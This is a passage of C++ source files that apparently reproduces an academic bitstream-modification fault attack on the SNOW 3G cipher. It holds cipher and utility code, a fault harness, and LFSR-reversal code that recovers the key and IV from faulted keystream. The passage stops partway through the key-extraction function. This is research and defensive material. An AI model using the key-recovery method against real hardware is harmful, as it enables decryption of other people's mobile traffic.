/// Parity (XOR-fold) of a 32-bit word.
constexpr u32 parity32(u32 w) { return static_cast<u32>(std::popcount(w) & 1); }

/// Reads a big-endian 32-bit word from 4 bytes.
constexpr u32 load_be32(const u8* p) {
  return (u32{p[0]} << 24) | (u32{p[1]} << 16) | (u32{p[2]} << 8) | u32{p[3]};
}

/// Writes a big-endian 32-bit word into 4 bytes.
constexpr void store_be32(u8* p, u32 w) {
  p[0] = static_cast<u8>(w >> 24);
  p[1] = static_cast<u8>(w >> 16);
  p[2] = static_cast<u8>(w >> 8);
  p[3] = static_cast<u8>(w);
}

/// SplitMix64 finalizer: a fast invertible mixer whose low bits depend on
/// every input bit.  Used wherever a u64 feeds a power-of-two-masked hash
/// table (std::hash<u64> is the identity in libstdc++, which clusters).
constexpr u64 mix64(u64 x) {
  x ^= x >> 30;
  x *= 0xbf58476d1ce4e5b9ull;
  x ^= x >> 27;
  x *= 0x94d049bb133111ebull;
  x ^= x >> 31;
  return x;
}

/// Reads a big-endian 64-bit word from 8 bytes.
constexpr u64 load_be64(const u8* p) {
  return (u64{load_be32(p)} << 32) | u64{load_be32(p + 4)};
}

/// Writes a big-endian 64-bit word into 8 bytes.
constexpr void store_be64(u8* p, u64 w) {
  store_be32(p, static_cast<u32>(w >> 32));
  store_be32(p + 4, static_cast<u32>(w));
}

}  // namespace sbm
