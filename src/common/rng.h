// Deterministic pseudo-random generator for tests and workload generation.
//
// A fixed, seedable generator (xoshiro256**) is used instead of std::mt19937
// so that test workloads and benchmark inputs are reproducible across
// standard-library implementations.
#pragma once

#include <array>
#include <cstdint>

#include "common/bits.h"

namespace sbm {

/// xoshiro256** by Blackman & Vigna (public domain reference algorithm).
class Rng {
 public:
  explicit constexpr Rng(u64 seed) {
    // SplitMix64 seeding, as recommended by the xoshiro authors.
    u64 x = seed;
    for (auto& s : state_) {
      x += 0x9e3779b97f4a7c15ull;
      u64 z = x;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
      s = z ^ (z >> 31);
    }
  }

  constexpr u64 next_u64() {
    const u64 result = std::rotl(state_[1] * 5, 7) * 9;
    const u64 t = state_[1] << 17;
    state_[2] ^= state_[0];
    state_[3] ^= state_[1];
    state_[1] ^= state_[2];
    state_[0] ^= state_[3];
    state_[2] ^= t;
    state_[3] = std::rotl(state_[3], 45);
    return result;
  }

  constexpr u32 next_u32() { return static_cast<u32>(next_u64() >> 32); }

  /// Uniform value in [0, bound). bound must be > 0.
  constexpr u64 next_below(u64 bound) { return next_u64() % bound; }

  constexpr bool next_bool() { return (next_u64() & 1) != 0; }

 private:
  std::array<u64, 4> state_{};
};

}  // namespace sbm
