#include "common/json.h"

#include <cstdio>

namespace sbm {

void JsonWriter::comma() {
  if (!stack_.empty() && stack_.back() == 'v') {
    stack_.back() = 'o';  // value completes a key/value pair
    need_comma_ = true;   // next key needs a separator
    return;
  }
  if (need_comma_) out_ += ',';
  need_comma_ = true;
}

void JsonWriter::append_escaped(const std::string& s) {
  out_ += '"';
  for (const char c : s) {
    switch (c) {
      case '"': out_ += "\\\""; break;
      case '\\': out_ += "\\\\"; break;
      case '\n': out_ += "\\n"; break;
      case '\r': out_ += "\\r"; break;
      case '\t': out_ += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out_ += buf;
        } else {
          out_ += c;
        }
    }
  }
  out_ += '"';
}

JsonWriter& JsonWriter::begin_object() {
  comma();
  out_ += '{';
  stack_ += 'o';
  need_comma_ = false;
  return *this;
}

JsonWriter& JsonWriter::end_object() {
  out_ += '}';
  stack_.pop_back();
  need_comma_ = true;
  return *this;
}

JsonWriter& JsonWriter::begin_array() {
  comma();
  out_ += '[';
  stack_ += 'a';
  need_comma_ = false;
  return *this;
}

JsonWriter& JsonWriter::end_array() {
  out_ += ']';
  stack_.pop_back();
  need_comma_ = true;
  return *this;
}

JsonWriter& JsonWriter::key(const std::string& name) {
  if (need_comma_) out_ += ',';
  need_comma_ = false;
  append_escaped(name);
  out_ += ':';
  if (!stack_.empty()) stack_.back() = 'v';
  return *this;
}

JsonWriter& JsonWriter::value(const std::string& s) {
  comma();
  append_escaped(s);
  return *this;
}

JsonWriter& JsonWriter::value(const char* s) { return value(std::string(s)); }

JsonWriter& JsonWriter::value(bool b) {
  comma();
  out_ += b ? "true" : "false";
  return *this;
}

JsonWriter& JsonWriter::value(double d) {
  comma();
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.17g", d);
  out_ += buf;
  return *this;
}

JsonWriter& JsonWriter::value(u64 v) {
  comma();
  out_ += std::to_string(v);
  return *this;
}

JsonWriter& JsonWriter::value(int v) {
  comma();
  out_ += std::to_string(v);
  return *this;
}

}  // namespace sbm
