#include "common/json.h"

#include <cctype>
#include <cstdio>
#include <cstdlib>

namespace sbm {

void JsonWriter::comma() {
  if (!stack_.empty() && stack_.back() == 'v') {
    stack_.back() = 'o';  // value completes a key/value pair
    need_comma_ = true;   // next key needs a separator
    return;
  }
  if (need_comma_) out_ += ',';
  need_comma_ = true;
}

namespace {

/// Shared string escaping: JsonWriter and JsonValue::dump must agree so a
/// parse -> dump round trip re-escapes strings canonically.
void append_escaped_to(std::string& out, const std::string& s) {
  out += '"';
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

}  // namespace

void JsonWriter::append_escaped(const std::string& s) { append_escaped_to(out_, s); }

JsonWriter& JsonWriter::begin_object() {
  comma();
  out_ += '{';
  stack_ += 'o';
  need_comma_ = false;
  return *this;
}

JsonWriter& JsonWriter::end_object() {
  out_ += '}';
  stack_.pop_back();
  need_comma_ = true;
  return *this;
}

JsonWriter& JsonWriter::begin_array() {
  comma();
  out_ += '[';
  stack_ += 'a';
  need_comma_ = false;
  return *this;
}

JsonWriter& JsonWriter::end_array() {
  out_ += ']';
  stack_.pop_back();
  need_comma_ = true;
  return *this;
}

JsonWriter& JsonWriter::key(const std::string& name) {
  if (need_comma_) out_ += ',';
  need_comma_ = false;
  append_escaped(name);
  out_ += ':';
  if (!stack_.empty()) stack_.back() = 'v';
  return *this;
}

JsonWriter& JsonWriter::value(const std::string& s) {
  comma();
  append_escaped(s);
  return *this;
}

JsonWriter& JsonWriter::value(const char* s) { return value(std::string(s)); }

JsonWriter& JsonWriter::raw_value(std::string_view json) {
  comma();
  out_ += json;
  return *this;
}

JsonWriter& JsonWriter::value(bool b) {
  comma();
  out_ += b ? "true" : "false";
  return *this;
}

JsonWriter& JsonWriter::value(double d) {
  comma();
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.17g", d);
  out_ += buf;
  return *this;
}

JsonWriter& JsonWriter::value(u64 v) {
  comma();
  out_ += std::to_string(v);
  return *this;
}

JsonWriter& JsonWriter::value(int v) {
  comma();
  out_ += std::to_string(v);
  return *this;
}

const JsonValue* JsonValue::find(std::string_view key) const {
  if (kind != Kind::kObject) return nullptr;
  for (const auto& [name, value] : members) {
    if (name == key) return &value;
  }
  return nullptr;
}

u64 JsonValue::as_u64(u64 fallback) const {
  if (kind != Kind::kNumber) return fallback;
  return std::strtoull(number.c_str(), nullptr, 10);
}

double JsonValue::as_double(double fallback) const {
  if (kind != Kind::kNumber) return fallback;
  return std::strtod(number.c_str(), nullptr);
}

bool JsonValue::as_bool(bool fallback) const {
  return kind == Kind::kBool ? boolean : fallback;
}

namespace {

void dump_to(const JsonValue& v, std::string& out) {
  switch (v.kind) {
    case JsonValue::Kind::kNull:
      out += "null";
      return;
    case JsonValue::Kind::kBool:
      out += v.boolean ? "true" : "false";
      return;
    case JsonValue::Kind::kNumber:
      out += v.number;  // raw source token, bit-exact for 64-bit integers
      return;
    case JsonValue::Kind::kString:
      append_escaped_to(out, v.string);
      return;
    case JsonValue::Kind::kArray: {
      out += '[';
      for (size_t i = 0; i < v.items.size(); ++i) {
        if (i != 0) out += ',';
        dump_to(v.items[i], out);
      }
      out += ']';
      return;
    }
    case JsonValue::Kind::kObject: {
      out += '{';
      for (size_t i = 0; i < v.members.size(); ++i) {
        if (i != 0) out += ',';
        append_escaped_to(out, v.members[i].first);
        out += ':';
        dump_to(v.members[i].second, out);
      }
      out += '}';
      return;
    }
  }
}

}  // namespace

std::string JsonValue::dump() const {
  std::string out;
  dump_to(*this, out);
  return out;
}

namespace {

/// Recursive-descent parser over the document text.  Depth-bounded so a
/// hostile checkpoint file cannot overflow the stack.
class JsonParser {
 public:
  explicit JsonParser(std::string_view text) : text_(text) {}

  std::optional<JsonValue> parse() {
    auto v = parse_value(0);
    if (!v) return std::nullopt;
    skip_ws();
    if (pos_ != text_.size()) return std::nullopt;  // trailing garbage
    return v;
  }

 private:
  static constexpr int kMaxDepth = 64;

  void skip_ws() {
    while (pos_ < text_.size() &&
           std::isspace(static_cast<unsigned char>(text_[pos_])) != 0) {
      ++pos_;
    }
  }

  bool consume(char c) {
    skip_ws();
    if (pos_ >= text_.size() || text_[pos_] != c) return false;
    ++pos_;
    return true;
  }

  bool literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return false;
    pos_ += word.size();
    return true;
  }

  std::optional<std::string> parse_string() {
    if (!consume('"')) return std::nullopt;
    std::string out;
    while (pos_ < text_.size()) {
      const char c = text_[pos_++];
      if (c == '"') return out;
      if (c != '\\') {
        out += c;
        continue;
      }
      if (pos_ >= text_.size()) return std::nullopt;
      const char esc = text_[pos_++];
      switch (esc) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {
          if (pos_ + 4 > text_.size()) return std::nullopt;
          unsigned code = 0;
          for (int i = 0; i < 4; ++i) {
            const char h = text_[pos_++];
            code <<= 4;
            if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
            else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
            else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
            else return std::nullopt;
          }
          // UTF-8 encode the BMP code point (the writer only ever emits
          // \u00XX control escapes, but accept the general form).
          if (code < 0x80) {
            out += static_cast<char>(code);
          } else if (code < 0x800) {
            out += static_cast<char>(0xc0 | (code >> 6));
            out += static_cast<char>(0x80 | (code & 0x3f));
          } else {
            out += static_cast<char>(0xe0 | (code >> 12));
            out += static_cast<char>(0x80 | ((code >> 6) & 0x3f));
            out += static_cast<char>(0x80 | (code & 0x3f));
          }
          break;
        }
        default:
          return std::nullopt;
      }
    }
    return std::nullopt;  // unterminated
  }

  std::optional<JsonValue> parse_value(int depth) {
    if (depth > kMaxDepth) return std::nullopt;
    skip_ws();
    if (pos_ >= text_.size()) return std::nullopt;
    JsonValue v;
    const char c = text_[pos_];
    if (c == 'n') {
      if (!literal("null")) return std::nullopt;
      return v;
    }
    if (c == 't' || c == 'f') {
      v.kind = JsonValue::Kind::kBool;
      v.boolean = c == 't';
      if (!literal(c == 't' ? "true" : "false")) return std::nullopt;
      return v;
    }
    if (c == '"') {
      auto s = parse_string();
      if (!s) return std::nullopt;
      v.kind = JsonValue::Kind::kString;
      v.string = std::move(*s);
      return v;
    }
    if (c == '[') {
      ++pos_;
      v.kind = JsonValue::Kind::kArray;
      skip_ws();
      if (consume(']')) return v;
      while (true) {
        auto item = parse_value(depth + 1);
        if (!item) return std::nullopt;
        v.items.push_back(std::move(*item));
        if (consume(']')) return v;
        if (!consume(',')) return std::nullopt;
      }
    }
    if (c == '{') {
      ++pos_;
      v.kind = JsonValue::Kind::kObject;
      skip_ws();
      if (consume('}')) return v;
      while (true) {
        skip_ws();
        auto key = parse_string();
        if (!key || !consume(':')) return std::nullopt;
        auto member = parse_value(depth + 1);
        if (!member) return std::nullopt;
        v.members.emplace_back(std::move(*key), std::move(*member));
        if (consume('}')) return v;
        if (!consume(',')) return std::nullopt;
      }
    }
    // Number: keep the raw token for lossless integer round-trips.
    const size_t start = pos_;
    if (c == '-' || c == '+') ++pos_;
    bool digits = false;
    while (pos_ < text_.size()) {
      const char d = text_[pos_];
      if ((d >= '0' && d <= '9')) {
        digits = true;
        ++pos_;
      } else if (d == '.' || d == 'e' || d == 'E' || d == '-' || d == '+') {
        ++pos_;
      } else {
        break;
      }
    }
    if (!digits) return std::nullopt;
    v.kind = JsonValue::Kind::kNumber;
    v.number = std::string(text_.substr(start, pos_ - start));
    return v;
  }

  std::string_view text_;
  size_t pos_ = 0;
};

}  // namespace

std::optional<JsonValue> parse_json(std::string_view text) {
  return JsonParser(text).parse();
}

}  // namespace sbm
