// Hex formatting/parsing helpers used by examples, benches and tests.
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "common/bits.h"

namespace sbm {

/// Formats `w` as 8 lowercase hex digits (the style used in the paper's
/// keystream tables, e.g. "a1fb4788").
std::string hex32(u32 w);

/// Formats a byte buffer as a lowercase hex string without separators.
std::string hex_bytes(std::span<const u8> bytes);

/// Parses a 32-bit word from exactly 8 hex digits.  Throws
/// std::invalid_argument on malformed input.
u32 parse_hex32(std::string_view s);

/// Parses a hex string (even length, no separators) into bytes.  Throws
/// std::invalid_argument on malformed input.
std::vector<u8> parse_hex_bytes(std::string_view s);

}  // namespace sbm
