#include "snow3g/gf.h"

namespace sbm::snow3g {
namespace {

constexpr u8 kAlphaFeedback = 0xA9;  // x^8 + x^7 + x^5 + x^3 + 1

struct AlphaTables {
  std::array<u32, 256> mul{};
  std::array<u32, 256> div{};
  constexpr AlphaTables() {
    for (int c = 0; c < 256; ++c) {
      const u8 b = static_cast<u8>(c);
      mul[static_cast<size_t>(c)] = from_msb_bytes(
          mulx_pow(b, 23, kAlphaFeedback), mulx_pow(b, 245, kAlphaFeedback),
          mulx_pow(b, 48, kAlphaFeedback), mulx_pow(b, 239, kAlphaFeedback));
      div[static_cast<size_t>(c)] = from_msb_bytes(
          mulx_pow(b, 16, kAlphaFeedback), mulx_pow(b, 39, kAlphaFeedback),
          mulx_pow(b, 6, kAlphaFeedback), mulx_pow(b, 64, kAlphaFeedback));
    }
  }
};

constexpr AlphaTables kTables{};

}  // namespace

u32 mul_alpha(u8 c) { return kTables.mul[c]; }
u32 div_alpha(u8 c) { return kTables.div[c]; }

u32 alpha_times(u32 w) { return (w << 8) ^ mul_alpha(static_cast<u8>(w >> 24)); }

u32 alpha_div(u32 w) { return (w >> 8) ^ div_alpha(static_cast<u8>(w & 0xff)); }

std::array<u32, 8> linear_map_columns(u32 (*map)(u8)) {
  std::array<u32, 8> cols{};
  for (unsigned j = 0; j < 8; ++j) cols[j] = map(static_cast<u8>(1u << j));
  return cols;
}

}  // namespace sbm::snow3g
