// SNOW 3G reference model with a configurable fault harness.
//
// The plain cipher follows the ETSI SAGE specification.  The fault knobs
// model exactly the bitstream modifications of the paper:
//
//   * cut_fsm_to_lfsr   - the stuck-at-0 fault on node v along the LFSR
//                         feedback path (LUT2/LUT3 rewritten as in Eq. (1)):
//                         during initialization the FSM word W is no longer
//                         mixed into the feedback, so the state update is the
//                         pure linear map L.
//   * cut_fsm_to_output - the stuck-at-0 fault on node v along the z_t path
//                         (LUT1 rewritten f2 -> a3 a4 a5 ~a6): the keystream
//                         degenerates to z_t = s0.
//   * load_zero_lfsr    - the beta fault (MUX LUTs rewritten): the LFSR is
//                         initialized with the all-0 vector instead of
//                         gamma(K, IV), making the keystream key-independent.
//
// With cut_fsm_to_lfsr + cut_fsm_to_output the 16 first keystream words are
// the LFSR state S^33, from which reverse.h recovers gamma(K, IV) and the
// key (paper Tables IV/V).  With cut_fsm_to_lfsr + load_zero_lfsr the
// keystream is the key-independent sequence of Table III.
#pragma once

#include <array>
#include <cstdint>
#include <vector>

#include "common/bits.h"

namespace sbm::snow3g {

using Key = std::array<u32, 4>;  // k0..k3 as in the spec
using Iv = std::array<u32, 4>;   // iv0..iv3 as in the spec

/// LFSR state s0..s15.
using LfsrState = std::array<u32, 16>;

/// Bitstream-modification faults (see file comment).  The feedback cut is a
/// per-bit mask so that the attacker's reference signatures for partially
/// patched bitstreams (one feedback LUT at a time) can be simulated.
struct FaultConfig {
  u32 cut_fsm_to_lfsr_mask = 0;  // W bits removed from the feedback path
  bool cut_fsm_to_output = false;
  bool load_zero_lfsr = false;

  static constexpr FaultConfig none() { return {}; }
  /// All faults of the final key-extraction run (Section VI-D.3).
  static constexpr FaultConfig full_attack() { return {0xffffffffu, true, false}; }
  /// Faults of the key-independent exploration run (Section VI-D.1).
  static constexpr FaultConfig key_independent() { return {0xffffffffu, false, true}; }
};

/// The initial LFSR load gamma(K, IV) (Section III).
LfsrState gamma(const Key& key, const Iv& iv);

/// Word-oriented SNOW 3G engine.
class Snow3g {
 public:
  /// Initializes with a key/IV and runs the 32 initialization rounds plus
  /// the one discarded keystream-mode clock mandated by the spec.
  Snow3g(const Key& key, const Iv& iv, FaultConfig faults = FaultConfig::none());

  /// Produces the next keystream word z_t.
  u32 next();

  /// Produces `n` keystream words.
  std::vector<u32> keystream(size_t n);

  /// Current LFSR state (testing/attack analysis).
  const LfsrState& lfsr() const { return s_; }
  u32 r1() const { return r1_; }
  u32 r2() const { return r2_; }
  u32 r3() const { return r3_; }

 private:
  u32 clock_fsm();
  void clock_lfsr_init(u32 f);
  void clock_lfsr_keystream();

  LfsrState s_{};
  u32 r1_ = 0, r2_ = 0, r3_ = 0;
  FaultConfig faults_;
};

/// One forward LFSR step in keystream mode (the linear map L); exposed for
/// the reversal code and for property tests.
LfsrState lfsr_forward(const LfsrState& s);

}  // namespace sbm::snow3g
