// UEA2 confidentiality (f8) and UIA2 integrity (f9) built on SNOW 3G.
//
// These are the 3GPP algorithms whose core the paper attacks (UEA2/UIA2 in
// 3G, 128-EEA1/EIA1 in LTE, 128-NEA1/NIA1 in 5G differ only in parameter
// plumbing).  They are provided so that the example applications can show an
// end-to-end traffic scenario, and so that the recovered key demonstrably
// decrypts previously captured ciphertext.
//
// Note: the ETSI implementers' test data was not available offline; f8/f9
// follow our reading of the SAGE specification and are covered by
// self-consistency and sensitivity tests rather than official vectors.  The
// paper's own experiments (Tables III-V) do not depend on f8/f9.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <vector>

#include "snow3g/snow3g.h"

namespace sbm::snow3g {

/// 128-bit confidentiality/integrity key as 16 bytes, most significant
/// first (the over-the-wire format).
using Key128 = std::array<u8, 16>;

/// Converts a 16-byte key to the k0..k3 word form used by the cipher core
/// (k3 holds the first four key bytes, per the spec's loading convention).
Key to_word_key(const Key128& ck);

/// UEA2 / 128-EEA1 f8: encrypts or decrypts `data` in place (XOR keystream;
/// the transform is an involution).  `length_bits` may be shorter than
/// 8*data.size(); trailing bits of the last byte are left untouched.
void f8(const Key128& ck, u32 count, u32 bearer, u32 direction, std::span<u8> data,
        size_t length_bits);

/// UIA2 / 128-EIA1 f9: computes the 32-bit MAC over `length_bits` bits of
/// `message`.
u32 f9(const Key128& ik, u32 count, u32 fresh, u32 direction, std::span<const u8> message,
       size_t length_bits);

}  // namespace sbm::snow3g
