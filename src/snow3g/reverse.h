// LFSR reversal and key extraction (Section VI-A, Tables IV/V).
//
// With the FSM output stuck at 0 during initialization, the LFSR evolves
// through S^i = L^i(gamma(K, IV)); the discarded post-init clock makes the
// first 16 keystream words of the fully-faulted cipher equal the state S^33.
// An LFSR with a known characteristic polynomial is easy to reverse [45]:
// one backward step recovers the old s0 as alpha^{-1}(s15' ^ s1' ^
// alpha^{-1}(s10')).
#pragma once

#include <optional>
#include <span>

#include "snow3g/snow3g.h"

namespace sbm::snow3g {

/// One backward LFSR step (inverse of lfsr_forward; verified in tests).
LfsrState lfsr_backward(const LfsrState& s);

/// Interprets 16 faulty keystream words as the LFSR state S^33 (z_1 = s0 of
/// S^33, ..., z_16 = s15) and reverses `steps` LFSR steps (33 for the
/// attack).
LfsrState state_from_faulty_keystream(std::span<const u32> z16, int steps = 33);

struct RecoveredSecrets {
  Key key{};
  Iv iv{};
};

/// Extracts K (and IV) from the recovered initial state S^0 = gamma(K, IV).
/// Returns std::nullopt if S^0 violates the gamma redundancies (s0 = s8,
/// s1 = ~s5, s2 = ~s6, s3 = s11 = ~s7, s13 = s5, s14 = s6), i.e. if the
/// fault hypothesis was wrong.
std::optional<RecoveredSecrets> extract_key(const LfsrState& s0);

/// Convenience: full pipeline from 16 faulty keystream words to the key.
std::optional<RecoveredSecrets> recover_from_keystream(std::span<const u32> z16);

}  // namespace sbm::snow3g
