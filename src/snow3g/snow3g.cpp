#include "snow3g/snow3g.h"

#include "snow3g/gf.h"
#include "snow3g/sbox.h"

namespace sbm::snow3g {

LfsrState gamma(const Key& k, const Iv& iv) {
  constexpr u32 kOnes = 0xffffffffu;
  LfsrState s{};
  s[15] = k[3] ^ iv[0];
  s[14] = k[2];
  s[13] = k[1];
  s[12] = k[0] ^ iv[1];
  s[11] = k[3] ^ kOnes;
  s[10] = k[2] ^ kOnes ^ iv[2];
  s[9] = k[1] ^ kOnes ^ iv[3];
  s[8] = k[0] ^ kOnes;
  s[7] = k[3];
  s[6] = k[2];
  s[5] = k[1];
  s[4] = k[0];
  s[3] = k[3] ^ kOnes;
  s[2] = k[2] ^ kOnes;
  s[1] = k[1] ^ kOnes;
  s[0] = k[0] ^ kOnes;
  return s;
}

namespace {

u32 feedback(const LfsrState& s) {
  return alpha_times(s[0]) ^ s[2] ^ alpha_div(s[11]);
}

}  // namespace

LfsrState lfsr_forward(const LfsrState& s) {
  LfsrState out{};
  for (size_t i = 0; i < 15; ++i) out[i] = s[i + 1];
  out[15] = feedback(s);
  return out;
}

Snow3g::Snow3g(const Key& key, const Iv& iv, FaultConfig faults) : faults_(faults) {
  s_ = faults_.load_zero_lfsr ? LfsrState{} : gamma(key, iv);
  r1_ = r2_ = r3_ = 0;
  for (int round = 0; round < 32; ++round) {
    const u32 f = clock_fsm();
    clock_lfsr_init(f);
  }
  // One keystream-mode clock whose FSM output is discarded.
  (void)clock_fsm();
  clock_lfsr_keystream();
}

u32 Snow3g::clock_fsm() {
  const u32 f = (s_[15] + r1_) ^ r2_;
  const u32 r = r2_ + (r3_ ^ s_[5]);
  r3_ = s2(r2_);
  r2_ = s1(r1_);
  r1_ = r;
  return f;
}

void Snow3g::clock_lfsr_init(u32 f) {
  const u32 w = f & ~faults_.cut_fsm_to_lfsr_mask;
  const u32 v = feedback(s_) ^ w;
  for (size_t i = 0; i < 15; ++i) s_[i] = s_[i + 1];
  s_[15] = v;
}

void Snow3g::clock_lfsr_keystream() {
  const u32 v = feedback(s_);
  for (size_t i = 0; i < 15; ++i) s_[i] = s_[i + 1];
  s_[15] = v;
}

u32 Snow3g::next() {
  const u32 f = clock_fsm();
  const u32 z = faults_.cut_fsm_to_output ? s_[0] : (f ^ s_[0]);
  clock_lfsr_keystream();
  return z;
}

std::vector<u32> Snow3g::keystream(size_t n) {
  std::vector<u32> z;
  z.reserve(n);
  for (size_t t = 0; t < n; ++t) z.push_back(next());
  return z;
}

}  // namespace sbm::snow3g
