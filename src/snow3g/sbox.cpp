#include "snow3g/sbox.h"

#include "crypto/aes256.h"
#include "snow3g/gf.h"

namespace sbm::snow3g {
namespace {

constexpr u8 kS2Feedback = 0x69;  // x^8 + x^6 + x^5 + x^3 + 1

// Multiplication in GF(2^8) with an arbitrary feedback byte, expressed via
// repeated MULx so that it matches the spec's definitions exactly.
constexpr u8 gf_mul(u8 a, u8 b, u8 feedback) {
  u8 p = 0;
  for (int i = 7; i >= 0; --i) {
    p = mulx(p, feedback);
    if (b & (1u << i)) p = static_cast<u8>(p ^ a);
  }
  return p;
}

// Dickson polynomial D7(x) = x^7 + x^5 + x over GF(2^8)/0x69.
constexpr u8 dickson7(u8 x) {
  const u8 x2 = gf_mul(x, x, kS2Feedback);
  const u8 x4 = gf_mul(x2, x2, kS2Feedback);
  const u8 x5 = gf_mul(x4, x, kS2Feedback);
  const u8 x7 = gf_mul(x5, x2, kS2Feedback);
  return static_cast<u8>(x7 ^ x5 ^ x);
}

std::array<u8, 256> make_sq() {
  std::array<u8, 256> sq{};
  for (int i = 0; i < 256; ++i) {
    // D49 = D7 . D7 (Dickson composition), then the affine constant 0x25.
    sq[static_cast<size_t>(i)] = static_cast<u8>(dickson7(dickson7(static_cast<u8>(i))) ^ 0x25);
  }
  return sq;
}

// circ(2,1,1,3) MixColumns step shared by S1 and S2; `feedback` selects the
// field reduction.
u32 mix_columns(u32 w, const std::array<u8, 256>& sbox, u8 feedback) {
  const u8 a = sbox[msb_byte(w, 0)];
  const u8 b = sbox[msb_byte(w, 1)];
  const u8 c = sbox[msb_byte(w, 2)];
  const u8 d = sbox[msb_byte(w, 3)];
  const u8 r0 = static_cast<u8>(mulx(a, feedback) ^ b ^ c ^ mulx(d, feedback) ^ d);
  const u8 r1 = static_cast<u8>(mulx(a, feedback) ^ a ^ mulx(b, feedback) ^ c ^ d);
  const u8 r2 = static_cast<u8>(a ^ mulx(b, feedback) ^ b ^ mulx(c, feedback) ^ d);
  const u8 r3 = static_cast<u8>(a ^ b ^ mulx(c, feedback) ^ c ^ mulx(d, feedback));
  return from_msb_bytes(r0, r1, r2, r3);
}

}  // namespace

const std::array<u8, 256>& table_sr() { return crypto::aes_sbox(); }

const std::array<u8, 256>& table_sq() {
  static const std::array<u8, 256> table = make_sq();
  return table;
}

u32 s1(u32 w) { return mix_columns(w, table_sr(), 0x1B); }

u32 s2(u32 w) { return mix_columns(w, table_sq(), kS2Feedback); }

}  // namespace sbm::snow3g
