// GF(2^8) and GF(2^32) arithmetic of the SNOW 3G LFSR (ETSI SAGE
// specification, document 2).
//
// The LFSR feedback is v = alpha * s0  ^  s2  ^  alpha^{-1} * s11 over
// GF(2^32), where multiplication by alpha / alpha^{-1} decomposes into a
// byte shift plus an 8->32-bit table lookup (MULalpha / DIValpha).  Both
// tables are GF(2)-linear in their input byte, a property the netlist layer
// exploits to implement them as XOR trees.
#pragma once

#include <array>

#include "common/bits.h"

namespace sbm::snow3g {

/// MULx(V, c): multiply V by x in GF(2^8) with feedback byte c.
constexpr u8 mulx(u8 v, u8 c) {
  return (v & 0x80) ? static_cast<u8>((v << 1) ^ c) : static_cast<u8>(v << 1);
}

/// MULxPOW(V, i, c): i-fold application of MULx.
constexpr u8 mulx_pow(u8 v, int i, u8 c) {
  for (int k = 0; k < i; ++k) v = mulx(v, c);
  return v;
}

/// MULalpha(c) = MULxPOW(c,23) || MULxPOW(c,245) || MULxPOW(c,48) ||
/// MULxPOW(c,239), all with feedback 0xA9.
u32 mul_alpha(u8 c);

/// DIValpha(c) = MULxPOW(c,16) || MULxPOW(c,39) || MULxPOW(c,6) ||
/// MULxPOW(c,64), all with feedback 0xA9.
u32 div_alpha(u8 c);

/// alpha * w over GF(2^32): byte shift left + MULalpha of the expelled byte.
u32 alpha_times(u32 w);

/// alpha^{-1} * w over GF(2^32): byte shift right + DIValpha of the expelled
/// byte.  Inverse of alpha_times (verified in tests).
u32 alpha_div(u32 w);

/// The 8x8 GF(2) matrix of a linear byte map m: column j (j = 0 is the input
/// LSB) holds m(1<<j).  Used to expose MULalpha/DIValpha as XOR trees to the
/// netlist generator.
std::array<u32, 8> linear_map_columns(u32 (*map)(u8));

}  // namespace sbm::snow3g
