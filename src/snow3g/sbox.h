// SNOW 3G S-boxes S1 and S2 (ETSI SAGE specification, document 2).
//
// S1 applies the Rijndael S-box SR to each byte followed by the AES
// MixColumns matrix circ(2,1,1,3) over GF(2^8)/0x1B.
//
// S2 applies the table SQ followed by the same circulant matrix over
// GF(2^8)/0x69 (x^8 + x^6 + x^5 + x^3 + 1).  SQ is defined from the Dickson
// polynomial of degree 49: since 49 = 7^2 and Dickson polynomials compose
// (D_mn = D_m . D_n), SQ(x) = D7(D7(x)) ^ 0x25 with D7(x) = x^7 + x^5 + x
// evaluated in GF(2^8)/0x69.  The derivation is validated end-to-end against
// the paper's key-independent keystream (Table III), which exercises nothing
// but the FSM.
#pragma once

#include <array>

#include "common/bits.h"

namespace sbm::snow3g {

/// The Rijndael S-box table SR.
const std::array<u8, 256>& table_sr();

/// The Dickson-polynomial S-box table SQ.
const std::array<u8, 256>& table_sq();

/// The 32-bit S-box S1 (SR bytes + MixColumns over GF(2^8)/0x1B).
u32 s1(u32 w);

/// The 32-bit S-box S2 (SQ bytes + MixColumns over GF(2^8)/0x69).
u32 s2(u32 w);

}  // namespace sbm::snow3g
