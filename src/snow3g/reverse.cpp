#include "snow3g/reverse.h"

#include <stdexcept>

#include "snow3g/gf.h"

namespace sbm::snow3g {

LfsrState lfsr_backward(const LfsrState& s) {
  LfsrState out{};
  for (size_t i = 1; i < 16; ++i) out[i] = s[i - 1];
  // Forward: s15' = alpha*s0 ^ s2 ^ alpha^{-1}*s11, with old s2 = new s1 and
  // old s11 = new s10.  Solve for old s0.
  out[0] = alpha_div(s[15] ^ s[1] ^ alpha_div(s[10]));
  return out;
}

LfsrState state_from_faulty_keystream(std::span<const u32> z16, int steps) {
  if (z16.size() < 16) throw std::invalid_argument("need 16 keystream words");
  LfsrState s{};
  for (size_t i = 0; i < 16; ++i) s[i] = z16[i];
  for (int i = 0; i < steps; ++i) s = lfsr_backward(s);
  return s;
}

std::optional<RecoveredSecrets> extract_key(const LfsrState& s) {
